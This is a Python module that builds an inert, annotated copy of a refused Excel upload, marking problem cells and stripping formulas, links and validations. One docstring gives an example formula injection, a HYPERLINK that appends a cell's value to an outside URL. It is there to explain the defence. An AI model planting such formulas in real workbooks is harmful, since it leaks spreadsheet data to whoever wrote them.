"""The annotated problems workbook: the refused file as sent, each problem cell marked, made inert.

It is built once and stored under STORAGE_DIR/annotated/<upload id>.xlsx, so its download is a
file read. Building means openpyxl loading and saving the whole workbook: measured on the
development machine, 0.14 s for 300 rows, 0.56 s for 1,000, 1.4 s for 3,000 and 15-16 s for
50,000 rows (1,000 cells marked). A workbook small enough to take well under a second
(``IN_REQUEST_MAX_BYTES`` of XML, about 1,200 rows) is annotated while it is checked; a larger
one is marked ``pending`` and the inbox job (``build_pending``, in the scheduler process)
builds it, never a web request.
"""

from __future__ import annotations

import io
import logging
import os
import tempfile
import zipfile
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path
from typing import TYPE_CHECKING, Any

from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.formatting import ConditionalFormattingList
from openpyxl.styles import PatternFill
from sqlmodel import Session, col, select

from app.imports.models import Upload

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook import Workbook
    from openpyxl.worksheet.datavalidation import DataValidation

log = logging.getLogger(__name__)

# Uncompressed size of a workbook's parts below which it is annotated while being checked.
IN_REQUEST_MAX_BYTES = 512 * 1024
# Workbooks the inbox job annotates in one run (each takes up to some twenty seconds).
PENDING_PER_RUN = 20
_FILL = PatternFill("solid", fgColor="F4B6B6")


def annotated_path(storage_dir: str | Path, upload_id: int) -> Path:
    return Path(storage_dir) / "annotated" / f"{upload_id}.xlsx"


def is_ready(upload: Upload) -> bool:
    """Whether the annotated copy may be downloaded (built and stored)."""
    return upload.outcome == "refused" and upload.annotation == "ready"


def annotate_if_quick(
    storage_dir: str | Path, upload: Upload, data: bytes, problems: list[dict[str, Any]]
) -> None:
    """Set the refused upload's ``annotation``: built now if that is quick, else pending.

    Only a file that opened as a workbook, with a problem at a cell, gets an annotated copy
    (never a hostile file: those are refused before any problem has a cell).
    """
    if not any(p.get("cell") for p in problems):
        upload.annotation = None
    elif _unpacked_size(data) > IN_REQUEST_MAX_BYTES:
        upload.annotation = "pending"
    else:
        upload.annotation = _store(storage_dir, upload.id, data, problems)


def _unpacked_size(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(info.file_size for info in archive.infolist())


def _store(
    storage_dir: str | Path, upload_id: int, data: bytes, problems: list[dict[str, Any]]
) -> str:
    """Build and write the copy; returns the annotation state it reached."""
    try:
        built = build(data, problems)
    except Exception:  # a workbook calamine read but openpyxl cannot: the list stays on the page
        log.exception("the annotated copy of upload %s could not be built", upload_id)
        return "failed"
    target = annotated_path(storage_dir, upload_id)
    target.parent.mkdir(parents=True, exist_ok=True)
    handle, temporary = tempfile.mkstemp(dir=target.parent, suffix=".part")
    with os.fdopen(handle, "wb") as stream:
        stream.write(built)
    os.replace(temporary, target)
    return "ready"


def build_pending(
    session_factory: Callable[[], AbstractContextManager[Session]],
    storage_dir: str | Path,
    archive: Callable[[str], Path],
) -> list[str]:
    """Build the annotated copies still pending, oldest first; each in short units of work,
    with no transaction open while a workbook is built. Returns a line per upload."""
    with session_factory() as session:
        waiting = session.exec(
            select(Upload.id, Upload.file_sha256)
            .where(Upload.annotation == "pending")
            .order_by(col(Upload.id))
            .limit(PENDING_PER_RUN)
        ).all()
    lines = []
    for upload_id, file_sha256 in waiting:
        with session_factory() as session:
            problems = session.get(Upload, upload_id).problems or []
        try:
            data = archive(file_sha256).read_bytes()
        except OSError:  # the archived file is gone (a restore, a moved folder): never retried
            log.exception("the archived workbook of upload %s cannot be read", upload_id)
            state = "failed"
        else:
            state = _store(storage_dir, upload_id, data, problems)
            del data
        del problems
        with session_factory() as session:
            upload = session.get(Upload, upload_id)
            upload.annotation = state
            session.add(upload)
        lines.append(
            f"upload {upload_id}: annotated problems workbook "
            + ("built" if state == "ready" else "could not be built")
        )
    return lines


def build(data: bytes, problems: list[dict[str, Any]]) -> bytes:
    """The workbook as sent, with a Problems sheet and each problem cell highlighted and
    commented, made inert."""
    # keep_links=False: links to other workbooks are dropped, never refreshed on opening
    workbook = load_workbook(io.BytesIO(data), keep_links=False)
    notes = workbook.create_sheet("Problems", 0)
    notes.append(["Sheet", "Cell", "Problem"])
    for problem in problems:
        notes.append([problem["sheet"], problem["cell"], problem["message"]])
        sheet = problem["sheet"]
        cell = problem["cell"].split(":")[0]
        if sheet in workbook.sheetnames and cell:
            target = workbook[sheet][cell]
            target.fill = _FILL
            target.comment = Comment(problem["message"], "RSO Work Plan Tracker")
    _make_inert(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _make_inert(workbook: Workbook) -> None:
    """Nothing the sender wrote may run in the reader's spreadsheet program.

    The copy goes to managers as well as the sender, so a formula such as
    =HYPERLINK("http://elsewhere/?"&F4, "Click to fix") would hand the report's data to
    whoever wrote it. Every formula cell becomes the text that was typed (shown as text, like
    a cell typed with a leading apostrophe); links, named formulas and the formulas of
    conditional formats and data validations (other than a plain list) are dropped.
    """
    workbook.defined_names.clear()
    for sheet in workbook.worksheets:
        sheet.defined_names.clear()
        sheet.conditional_formatting = ConditionalFormattingList()
        validations = sheet.data_validations.dataValidation
        validations[:] = [v for v in validations if _is_plain_list(v)]
        for row in sheet.iter_rows():
            for cell in row:
                cell.hyperlink = None
                if cell.data_type == "f":
                    _formula_as_text(cell)


def _formula_as_text(cell: Cell) -> None:
    typed = cell.value if isinstance(cell.value, str) else getattr(cell.value, "text", None)
    cell.value = typed or ""
    cell.data_type = "s"  # set after the value: openpyxl reads any "=..." string as a formula
    cell.quotePrefix = True


def _is_plain_list(validation: DataValidation) -> bool:
    """A dropdown of fixed choices ('"yes,no"'), as the template makes: no formula to run."""
    return (
        validation.type == "list"
        and (validation.formula1 or "").startswith('"')
        and validation.formula2 is None
    )
